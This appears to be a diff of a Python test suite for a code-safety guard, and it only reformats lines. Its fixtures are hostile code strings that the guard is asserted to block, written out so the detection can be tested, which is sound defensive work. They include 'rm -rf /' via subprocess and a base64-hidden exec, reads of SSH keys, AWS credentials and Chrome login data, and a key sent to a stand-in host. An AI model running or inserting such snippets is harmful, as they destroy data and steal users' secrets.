@@ -80,7 +80,9 @@ def test_an_argument_list_becomes_the_equivalent_command_line(guard: Guard, code
     assert finding.payload is not None and finding.payload.content == command
 
 
-def test_an_argument_list_that_deletes_the_root_is_blocked_by_what_the_shell_analyzer_sees(guard: Guard) -> None:
+def test_an_argument_list_that_deletes_the_root_is_blocked_by_what_the_shell_analyzer_sees(
+    guard: Guard,
+) -> None:
     decision = decide(guard, 'import subprocess\nsubprocess.run(["rm", "-rf", "/"])\n')
     assert decision.action == "block"
     assert any(f.capability == "fs.delete.recursive" and f.target == "/" for f in decision.findings)
@@ -88,7 +90,9 @@ def test_an_argument_list_that_deletes_the_root_is_blocked_by_what_the_shell_ana
 
 def test_a_helper_called_with_different_commands_is_judged_for_each(guard: Guard) -> None:
     code = "import os\ndef run(command):\n    os.system(command)\nrun('ls')\nrun('rm -rf /')\n"
-    payloads = {f.payload.content for f in python_findings(decide(guard, code), "proc.spawn.shell") if f.payload}
+    payloads = {
+        f.payload.content for f in python_findings(decide(guard, code), "proc.spawn.shell") if f.payload
+    }
     assert payloads == {"ls", "rm -rf /"}
 
 
@@ -170,7 +174,10 @@ def test_writing_ordinary_project_files_is_not_a_finding(guard: Guard) -> None:
     ("code", "capability"),
     [
         ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "cred.read.ssh_key"),
-        ("from pathlib import Path\nc = (Path.home() / '.aws' / 'credentials').read_text()\n", "cred.read.cloud"),
+        (
+            "from pathlib import Path\nc = (Path.home() / '.aws' / 'credentials').read_text()\n",
+            "cred.read.cloud",
+        ),
         (
             "import sqlite3, os\n"
             "db = sqlite3.connect(os.path.join(os.environ['HOME'], '.config/google-chrome/Default/Login Data'))\n",
@@ -273,7 +280,15 @@ def test_a_listening_socket_that_runs_what_it_receives_is_a_bind_shell(guard: Gu
         "import os, requests\nparts = []\nparts.append(open(os.path.expanduser('~/.ssh/id_ed25519')).read())\n"
         "requests.put('https://c.example/u', data='\\n'.join(parts))\n",
     ],
-    ids=["requests-data", "environ-json", "socket-send", "urllib-request", "smtplib", "fstring-url", "list-append"],
+    ids=[
+        "requests-data",
+        "environ-json",
+        "socket-send",
+        "urllib-request",
+        "smtplib",
+        "fstring-url",
+        "list-append",
+    ],
 )
 def test_secrets_flowing_into_a_network_send_are_exfiltration_and_blocked(guard: Guard, code: str) -> None:
     decision = decide(guard, code)
@@ -383,7 +398,9 @@ def test_other_keyboard_hooks_are_keyloggers_too(guard: Guard, code: str) -> Non
 
 
 def test_screen_capture(guard: Guard) -> None:
-    assert python_findings(decide(guard, "from PIL import ImageGrab\nImageGrab.grab().save('s.png')\n"), "input.screen_capture")
+    assert python_findings(
+        decide(guard, "from PIL import ImageGrab\nImageGrab.grab().save('s.png')\n"), "input.screen_capture"
+    )
 
 
 SETUP_HOOK = """from setuptools import setup
@@ -467,7 +484,10 @@ def test_stopping_ones_own_child_is_not_reported(guard: Guard) -> None:
             "import random, time\ndef keygen():\n    random.seed(time.time())\n    return random.randint(1, 10**6)\n",
             "crypto.weak",
         ),
-        ("import hashlib\ndef store(user, password):\n    return hashlib.md5(password.encode()).hexdigest()\n", "crypto.weak"),
+        (
+            "import hashlib\ndef store(user, password):\n    return hashlib.md5(password.encode()).hexdigest()\n",
+            "crypto.weak",
+        ),
         (
             "import hashlib\ndef save(name, Password):\n    h = hashlib.sha512()\n    h.update(Password.encode())\n"
             "    return h.hexdigest()\n",
@@ -597,7 +617,9 @@ def test_encoded_payloads_are_decoded_reported_and_judged(guard: Guard, expressi
     assert decision.action == "block"
 
 
-def test_base64_hidden_os_system_executed_is_blocked_with_the_decoded_command_in_evidence(guard: Guard) -> None:
+def test_base64_hidden_os_system_executed_is_blocked_with_the_decoded_command_in_evidence(
+    guard: Guard,
+) -> None:
     hidden = base64.b64encode(b'__import__("os").system("rm -rf /")').decode()
     decision = decide(guard, f"import base64\nexec(base64.b64decode('{hidden}'))\n")
     assert decision.action == "block"
